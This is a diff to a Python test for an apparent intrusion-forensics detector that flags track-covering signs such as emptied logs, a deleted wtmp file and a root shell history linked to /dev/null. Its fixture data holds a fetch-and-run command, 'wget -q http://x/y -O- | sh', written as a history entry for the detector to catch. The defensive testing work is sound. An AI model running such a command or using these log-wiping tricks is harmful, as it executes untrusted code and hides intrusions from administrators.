@@ -99,13 +99,15 @@ def test_emptied_logs_and_histories_are_told_from_rotation() -> None:
              "rotated_mtime": NOW - 30 * DAY},
             {"path": "/var/log/syslog", "exists": True, "size": 0, "mtime": NOW - 60, "ctime": NOW - 60,
              "rotated_mtime": NOW - 61},  # just rotated
-            {"path": "/var/log/messages", "exists": False, "rotated_mtime": None}]  # never there
+            {"path": "/var/log/messages", "exists": False, "rotated_mtime": None},  # never there
+            {"path": "/var/log/wtmp", "exists": False, "rotated_mtime": NOW - 20 * DAY}]  # deleted, wtmp.1 kept
     hist = [{"path": "/root/.bash_history", "link": "/dev/null", "size": 9, "mtime": NOW, "ctime": NOW, "tail": ""},
             {"path": "/home/a/.bash_history", "link": None, "size": 40, "mtime": NOW - 500 * DAY,
              "ctime": NOW - 500 * DAY, "tail": "ls\nwget -q http://x/y -O- | sh\n"}]
     said = whats(clean_facts(logs=logs, histories=hist), "cover-tracks")
     assert said == ["shell history /root/.bash_history is a link to /dev/null",
                     "log /var/log/auth.log was emptied recently (not by log rotation)",
+                    "log /var/log/wtmp is missing but its older copies are there",
                     "shell history /home/a/.bash_history runs a downloaded or temp-folder script: "
                     "wget -q http://x/y -O- | sh"]
 
